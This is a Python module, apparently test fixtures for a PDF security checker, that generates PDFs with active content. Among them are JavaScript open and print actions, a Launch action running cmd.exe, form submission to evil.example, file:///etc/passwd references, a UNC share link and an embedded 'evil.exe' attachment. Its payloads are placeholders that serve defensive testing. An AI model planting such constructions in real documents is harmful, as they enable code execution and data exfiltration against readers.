"""PDFs that want to do something: run, open, send, ask, hide."""

from __future__ import annotations

from attacks.pdf_parts import MARKED, TEXT, Make, image, with_root
from attacks.raw_pdf import BARE, PAGE, SHEET, raw, stream

_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def _annotated(annotation: bytes, *objects: bytes) -> bytes:
    page = b"<<" + SHEET + b"/Contents 4 0 R/Annots[" + annotation + b"]>>"
    return raw([page, stream(TEXT), *objects])


def _linked(action: bytes, *objects: bytes) -> bytes:
    return _annotated(b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A" + action + b">>", *objects)


_FILE = b"<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 5 0 R>>>>"


ACTIVE: dict[str, Make] = {
    "script on opening": lambda: with_root(b"/OpenAction" + _SCRIPT),
    "script on closing and printing": lambda: with_root(b"/AA<</WC" + _SCRIPT + b"/WP" + _SCRIPT + b"/DP" + _SCRIPT + b">>"),
    "script by name": lambda: with_root(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", _SCRIPT),
    "script of a page": lambda: raw(
        [b"<<" + SHEET + b"/Contents 4 0 R/AA<</O" + _SCRIPT + b"/C" + _SCRIPT + b">>>>", stream(TEXT)]
    ),
    "script of a link": lambda: _linked(_SCRIPT),
    "script behind a web link": lambda: _linked(b"<</S/URI/URI(https://example.org/)/Next" + _SCRIPT + b">>"),
    "script in an address": lambda: _linked(b"<</S/URI/URI(javascript:alert\\(1\\))>>"),
    "address of a file": lambda: _linked(b"<</S/URI/URI(file:///etc/passwd)>>"),
    "address with a line break": lambda: _linked(b"<</S/URI/URI(https://example.org/\\n/JS)>>"),
    "base address": lambda: with_root(b"/URI<</Base(file:///)>>"),
    "launch": lambda: _linked(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "go to another file": lambda: _linked(b"<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "go to an attachment": lambda: _linked(b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"),
    "submit": lambda: _linked(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>"),
    "import data": lambda: _linked(b"<</S/ImportData/F(data.fdf)>>"),
    "hide": lambda: _linked(b"<</S/Hide/T(a)>>"),
    "named action": lambda: _linked(b"<</S/Named/N/Print>>"),
    "sound and movie": lambda: _annotated(
        b"<</Subtype/Sound/Rect[0 0 9 9]/Sound 5 0 R>><</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a.avi)>>>>",
        stream(b"x", b"/R 8000"),
    ),
    "rendition": lambda: _linked(b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(a.swf)>>>>/JS(app.alert\\(1\\))>>"),
    "rich media": lambda: _annotated(
        b"<</Subtype/RichMedia/Rect[0 0 99 99]/RichMediaContent<</Assets<</Names[(a.swf)" + _FILE + b"]>>>>>>", stream(b"FWS")
    ),
    "3-D": lambda: _annotated(
        b"<</Subtype/3D/Rect[0 0 99 99]/3DD 5 0 R>>", stream(b"U3D", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R")
    ),
    "attachment": lambda: with_root(
        b"/Names<</EmbeddedFiles<</Names[(evil.exe)" + _FILE + b"]>>>>", stream(b"MZ evil", b"/Type/EmbeddedFile")
    ),
    "attachment on the page": lambda: _annotated(
        b"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS" + _FILE + b">>", stream(b"MZ evil")
    ),
    "associated files": lambda: with_root(b"/AF[" + _FILE + b"]", stream(b"MZ evil")),
    "portfolio": lambda: with_root(
        b"/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a)" + _FILE + b"]>>>>", stream(b"MZ evil")
    ),
    "form with a script": lambda: _annotated(
        b"<</Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 9]/AA<</K" + _SCRIPT + b">>/MK<</CA(x)>>/AP<</N 5 0 R>>>>",
        stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]"),
    ),
    "form fields": lambda: with_root(
        b"/AcroForm<</Fields[5 0 R]/NeedAppearances true/CO[5 0 R]/DA(/F 9 Tf)>>", b"<</FT/Btn/T(a)/A" + _SCRIPT + b">>"
    ),
    "XFA": lambda: with_root(
        b"/AcroForm<</Fields[]/XFA 5 0 R>>", stream(b"<xdp:xdp xmlns:xdp='x'><script>alert(1)</script></xdp:xdp>")
    ),
    "signature": lambda: with_root(
        b"/Perms<</DocMDP 5 0 R>>/AcroForm<</SigFlags 3/Fields[]>>", b"<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>"
    ),
    "needs other programs": lambda: with_root(
        b"/Requirements[<</S/EnableJavaScripts/RH[<</S/JS/Script(a)>>]>>]/Extensions<</EVIL<</BaseVersion/1.7>>>>"
    ),
    "data of a stream in another file": lambda: raw([BARE % b"4 0 R", stream(b"", b"/F(/etc/passwd)/FFilter/FlateDecode")]),
    "picture in another file": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, bytes(81), b"/F(https://evil.example/a.png)/FFilter[/DCTDecode]")]
    ),
    "page of another file": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(https://evil.example/a.pdf)/Page 0>>"),
        ]
    ),
    "PostScript drawing": lambda: raw([PAGE, stream(b"/A Do"), stream(b"(evil) run", b"/Subtype/PS")]),
    "PostScript in a form": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            stream(b"0 0 9 9 re f", b"/Subtype/Form/Subtype2/PS/PS 6 0 R/BBox[0 0 9 9]"),
            stream(b"(evil) run"),
        ]
    ),
    "OPI": lambda: raw(
        [PAGE, stream(b"/A Do"), stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F(https://evil.example/)>>>>")]
    ),
    "other pictures": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            image(9, 9, bytes(81), b"/Alternates[<</Image 6 0 R/DefaultForPrinting true>>]"),
            image(9, 9, bytes(81), b"/F(a)"),
        ]
    ),
    "layer that prints something else": lambda: _layers(),
    "layers that scripts turn on": lambda: _layers(b"/AS[<</Event/Print/OCGs[5 0 R]/Category[/Print]>>]"),
    "thread and article": lambda: with_root(
        b"/Threads[5 0 R]", b"<</F 6 0 R/I<</Title(a)>>>>", b"<</R[0 0 9 9]/P 3 0 R/N 6 0 R/V 6 0 R>>"
    ),
    "transition": lambda: raw(
        [b"<<" + SHEET + b"/Contents 4 0 R/Trans<</S/Fly>>/Dur 1/PresSteps<</NA" + _SCRIPT + b">>>>", stream(TEXT)]
    ),
    "web capture": lambda: with_root(b"/SpiderInfo<</V 1/C[<</URL(https://evil.example/)>>]>>"),
    "search index": lambda: with_root(b"/PieceInfo<</SearchIndex<</Private<</Indexes[<</F(evil)>>]>>>>>>"),
    "metadata of people": lambda: raw([BARE % b"4 0 R", stream(TEXT)], trailer=b"/Info<</Author(A. Secret)/Title(Secret)>>"),
    "tagged with an attachment": lambda: with_root(
        MARKED,
        b"<</Type/StructTreeRoot/K 6 0 R/ParentTree<</Nums[0[6 0 R]]>>>>",
        b"<</S/P/Pg 3 0 R/K 0/AF[" + _FILE.replace(b"5 0", b"7 0") + b"]/A<</O/NSO/NS<</NS(x)>>>>>>",
        stream(b"MZ evil"),
    ),
}


def _layers(more: bytes = b"") -> bytes:
    group = b"<</Type/OCG/Name(a)/Usage<</Print<</PrintState/ON>>/View<</ViewState/OFF>>>>>>"
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources<</Properties<</L 5 0 R>>>>>>"
    root = b"<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[5 0 R]/D<</OFF[5 0 R]" + more + b">>>>>>"
    return raw([page, stream(b"/OC /L BDC 0 0 99 99 re f EMC 200 200 9 9 re f"), group], root=root)
